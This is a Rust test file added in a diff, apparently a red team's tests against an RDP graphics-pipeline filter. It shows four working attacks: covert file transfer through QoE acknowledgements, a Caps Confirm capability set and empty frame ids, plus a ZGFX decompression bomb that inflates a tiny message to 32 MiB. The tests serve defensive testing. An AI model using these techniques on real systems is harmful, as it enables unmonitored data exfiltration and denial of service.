@@ -1,0 +1,212 @@
+//! Red team `h-red17n`'s attacks on the graphics pipeline reader (issue 17: `Protocol::Graphics`
+//! in `messages.rs`, the ZGFX history in `filter.rs`): each test passes while its hole is open
+//! (asserting the attacker's success), or, once fixed, shows the attack refused.
+//!
+//! The parties are those of red teams `h-red17i` to `h-red17m`: an insider's client (a custom or
+//! patched FreeRDP) and, on the target, a program of the session that holds the graphics pipeline
+//! (xrdp's own, or one opened by name through xrdpapi when xrdp does not open its own).
+
+use super::*;
+
+/// A "file" to move: bytes no protocol field would hold by chance.
+fn file(len: usize) -> Vec<u8> {
+    let mut file = b"\x7fELF\x02\x01\x01\0".to_vec();
+    file.extend((0..len as u32 - 8).map(|i| (i.wrapping_mul(31) ^ (i >> 3)) as u8));
+    file
+}
+
+/// The DVC channel id of the graphics pipeline in these tests.
+const GFX: u8 = 3;
+
+/// RDPGFX PDU: cmdId, flags 0, pduLength, body.
+fn gfx(cmd: u16, body: &[u8]) -> Vec<u8> {
+    let mut pdu = cmd.to_le_bytes().to_vec();
+    pdu.extend(0u16.to_le_bytes());
+    pdu.extend(u32::try_from(8 + body.len()).unwrap().to_le_bytes());
+    pdu.extend(body);
+    pdu
+}
+
+/// The client's RDPGFX PDUs in one DVC Data PDU.
+fn from_client(pdus: &[u8]) -> Vec<u8> {
+    red17i::client_send(red17i::svc(&[&[0x30, GFX][..], pdus].concat()))
+}
+
+/// The target's RDPGFX PDUs in one DVC Data PDU, as one uncompressed ZGFX segment.
+fn from_target(pdus: &[u8]) -> Vec<u8> {
+    red17i::target_send(red17i::svc(&[&[0x30, GFX, 0xE0, 0x04][..], pdus].concat()))
+}
+
+/// A session whose graphics pipeline is open: the client advertised version 10 (no flags) and
+/// the target has not confirmed yet.
+fn opened() -> Filter {
+    let mut f = red17i::grant_without_anything();
+    let mut create = vec![0x10, GFX];
+    create.extend(b"Microsoft::Windows::RDS::Graphics\0");
+    assert_eq!(f.from_target(&red17i::target_send(red17i::svc(&create))).unwrap(), Verdict::Forward);
+    let answer = red17i::client_send(red17i::svc(&[0x10, GFX, 0, 0, 0, 0]));
+    assert_eq!(f.from_client(&answer).unwrap(), Verdict::Forward);
+    let mut caps = 1u16.to_le_bytes().to_vec();
+    caps.extend(0x000A_0002u32.to_le_bytes());
+    caps.extend(4u32.to_le_bytes());
+    caps.extend(0u32.to_le_bytes());
+    assert!(passes(&f.from_client(&from_client(&gfx(0x12, &caps))).unwrap()));
+    f
+}
+
+/// The Caps Confirm of version 10, no flags, that the target answers with.
+fn confirm() -> Vec<u8> {
+    gfx(0x13, &[0x02, 0, 0x0A, 0, 4, 0, 0, 0, 0, 0, 0, 0])
+}
+
+fn passes(v: &Verdict) -> bool {
+    matches!(v, Verdict::Forward | Verdict::Replace(_))
+}
+
+/// Whether `frame`, as the filter lets it through, still holds `payload`.
+fn carries(verdict: &Verdict, frame: &[u8], payload: &[u8]) -> bool {
+    let out = match verdict {
+        Verdict::Forward => frame,
+        Verdict::Replace(out) => out,
+        Verdict::Drop | Verdict::Refuse(_) => return false,
+    };
+    out.windows(payload.len()).any(|w| w == payload)
+}
+
+/// Hole 1 (open): the client's QoE Frame Acknowledge (RDPGFX_CMDID_QOEFRAMEACKNOWLEDGE, 0x16) is
+/// read for its frame id alone: its timestamp, timeDiffSE and timeDiffEDR (8 bytes) pass
+/// unread. The target's program ends frames that draw nothing (an End Frame is 12 bytes, up to
+/// 1024 owed at once), and the client answers each with a QoE acknowledgement carrying 8 bytes
+/// of a file: client to target, 8 bytes per frame the target ends, nothing on screen.
+#[test]
+fn red17n_qoe_frame_acknowledgements_carry_a_file_to_the_target() {
+    let mut f = opened();
+    assert_eq!(f.from_target(&from_target(&confirm())).unwrap(), Verdict::Forward);
+    let payload = file(8 * 1024);
+    let frames = payload.len() / 8;
+    // The target ends 1024 empty frames, 100 End Frames a message.
+    let ends: Vec<Vec<u8>> = (0..frames as u32).map(|id| gfx(0x0C, &id.to_le_bytes())).collect();
+    for batch in ends.chunks(100) {
+        assert_eq!(f.from_target(&from_target(&batch.concat())).unwrap(), Verdict::Forward);
+    }
+    // The client answers each: frameId, then 8 bytes of the file; 64 acknowledgements a message.
+    let mut moved = 0;
+    for (n, part) in payload.chunks(8 * 64).enumerate() {
+        let acks: Vec<u8> = part
+            .chunks(8)
+            .enumerate()
+            .flat_map(|(i, bytes)| gfx(0x16, &[&((n * 64 + i) as u32).to_le_bytes()[..], bytes].concat()))
+            .collect();
+        let frame = from_client(&acks);
+        let verdict = f.from_client(&frame).unwrap();
+        // Each 8-byte piece reaches the target as sent.
+        if part.chunks(8).all(|bytes| carries(&verdict, &frame, bytes)) {
+            moved += part.len();
+        }
+    }
+    assert_eq!(moved, payload.len(), "the whole file reached the target");
+}
+
+/// Hole 2 (open): the target's Caps Confirm (RDPGFX_CMDID_CAPSCONFIRM, 0x13) must decode and
+/// re-encode with IronRDP, but IronRDP keeps a capability set's version and data verbatim
+/// (`RawCapabilitySet`: any version, any capsDataLength, the data as bytes), and the reader checks
+/// neither against the client's Caps Advertise. Once a session, the target's program sends the
+/// client a Caps Confirm whose one capability set is a file (up to the 16 MiB of a message, in
+/// as many static chunks as it takes); FreeRDP reads version, length and flags and skips the
+/// rest; the insider's client reads it all. Target to client, nothing drawn.
+#[test]
+fn red17n_the_targets_caps_confirm_carries_a_file_to_the_client() {
+    let payload = file(60_000);
+    for version in [0xDEAD_BEEFu32, 0x000A_0002] {
+        let mut f = opened();
+        let mut set = version.to_le_bytes().to_vec();
+        set.extend(u32::try_from(payload.len()).unwrap().to_le_bytes());
+        set.extend(&payload);
+        let dvc = [&[0x30, GFX, 0xE0, 0x04][..], &gfx(0x13, &set)].concat();
+        // One DVC Data PDU in static chunks of 1600 bytes: held back, then passed whole.
+        let pieces: Vec<&[u8]> = dvc.chunks(1600).collect();
+        let mut last = None;
+        for (i, piece) in pieces.iter().enumerate() {
+            let flags = u32::from(i == 0) | if i + 1 == pieces.len() { 2 } else { 0 };
+            let mut chunk = u32::try_from(dvc.len()).unwrap().to_le_bytes().to_vec();
+            chunk.extend(flags.to_le_bytes());
+            chunk.extend(*piece);
+            last = Some(f.from_target(&red17i::target_send(chunk)).unwrap());
+        }
+        let Some(Verdict::Replace(out)) = last else { panic!("version {version:#x}: {last:?}") };
+        assert!(pieces.iter().all(|p| out.windows(p.len()).any(|w| w == *p)), "version {version:#x}");
+    }
+}
+
+/// Hole 3 (open): the target's Start Frame and End Frame PDUs re-encode byte for byte with
+/// IronRDP whatever their timestamp (all 32 bits kept) and frame ids (never matched to each
+/// other, nor to a frame in progress); a frame with no command in it draws nothing. The target's
+/// program sends frames of nothing: 12 bytes of a file in each 28 (Start Frame timestamp and
+/// frameId, End Frame frameId), as fast as it likes; the recording shows no change. Target to
+/// client, unrecorded.
+#[test]
+fn red17n_empty_frames_carry_a_file_to_the_client_in_their_ids_and_timestamps() {
+    let mut f = opened();
+    assert_eq!(f.from_target(&from_target(&confirm())).unwrap(), Verdict::Forward);
+    let payload = file(12 * 1000);
+    for part in payload.chunks(12 * 50) {
+        let pdus: Vec<u8> = part.chunks(12).flat_map(|p| [gfx(0x0B, &p[..8]), gfx(0x0C, &p[8..])].concat()).collect();
+        let frame = from_target(&pdus);
+        let verdict = f.from_target(&frame).unwrap();
+        assert!(part.chunks(12).all(|p| carries(&verdict, &frame, &p[..8]) && carries(&verdict, &frame, &p[8..])));
+    }
+}
+
+/// Hole 4 (open): the longest graphics message the box takes is 16 MiB, but it is bounded
+/// compressed: the filter's ZGFX decompressor (IronRDP's) lets one segment grow to 64 MiB and a
+/// multipart message to 256 MiB, where MS-RDPEGFX 3.1.9.1 has each segment decompress to at most
+/// 65,535 bytes. A literal and one match (distance 1, length 2^25: 65 bits) are 32 MiB of zeros;
+/// behind a Wire To Surface 1 header in a first segment, a message of about 60 bytes becomes one
+/// PDU of 32 MiB that the reader decodes and re-encodes whole (two more copies) and passes, and
+/// the recorder decompresses again. Four such segments make 256 MiB. Each message makes the box
+/// allocate millions of times its size, and it repeats without end (the session does not end).
+#[test]
+fn red17n_a_few_bytes_of_zgfx_make_the_box_hold_a_message_far_beyond_its_bound() {
+    use ironrdp_egfx::pdu::{Codec1Type, GfxPdu, PixelFormat, WireToSurface1Pdu};
+    use ironrdp_graphics::zgfx::{wrap_compressed, wrap_uncompressed};
+    use ironrdp_pdu::geometry::ExclusiveRectangle;
+    const RUN: usize = 1 << 25;
+    let mut f = opened();
+    assert_eq!(f.from_target(&from_target(&confirm())).unwrap(), Verdict::Forward);
+    let bitmap = RUN + 1;
+    let whole = encode_vec(&GfxPdu::WireToSurface1(WireToSurface1Pdu {
+        surface_id: 1,
+        codec_id: Codec1Type::Uncompressed,
+        pixel_format: PixelFormat::XRgb,
+        destination_rectangle: ExclusiveRectangle { left: 0, top: 0, right: 4096, bottom: 2048 },
+        bitmap_data: vec![0; bitmap],
+    }))
+    .unwrap();
+    let header = &whole[..whole.len() - bitmap];
+    // ZGFX bits, most significant first: literal 0x00 (11000); match of distance 1 (10001 and
+    // 5 bits 00001); length 2^25 (24 ones, a zero, 25 value bits of zero); then the byte that
+    // counts the unused bits of the last.
+    let mut bits: Vec<bool> = [1, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 1].iter().map(|&b| b == 1).collect();
+    bits.extend(std::iter::repeat_n(true, 24));
+    bits.extend(std::iter::repeat_n(false, 26));
+    let unused = (8 - bits.len() % 8) % 8;
+    bits.extend(std::iter::repeat_n(false, unused));
+    let mut data: Vec<u8> = bits.chunks(8).map(|b| b.iter().fold(0u8, |a, &bit| a << 1 | u8::from(bit))).collect();
+    data.push(u8::try_from(unused).unwrap());
+    let first = wrap_uncompressed(header);
+    let zeros = wrap_compressed(&data);
+    // Multipart segmented data: descriptor, segmentCount, uncompressedSize, then each segment's
+    // size and its bulk data (a single segment's bytes after its descriptor).
+    let mut message = vec![0x30, GFX, 0xE1];
+    message.extend(2u16.to_le_bytes());
+    message.extend(u32::try_from(whole.len()).unwrap().to_le_bytes());
+    for s in [&first[1..], &zeros[1..]] {
+        message.extend(u32::try_from(s.len()).unwrap().to_le_bytes());
+        message.extend(s);
+    }
+    assert!(message.len() < 100 && whole.len() > 2 * Protocol::Graphics.max_message(), "{}", message.len());
+    let frame = red17i::target_send(red17i::svc(&message));
+    assert_eq!(f.from_target(&frame).unwrap(), Verdict::Forward);
+    // And again, as often as the target likes.
+    assert_eq!(f.from_target(&frame).unwrap(), Verdict::Forward);
+}
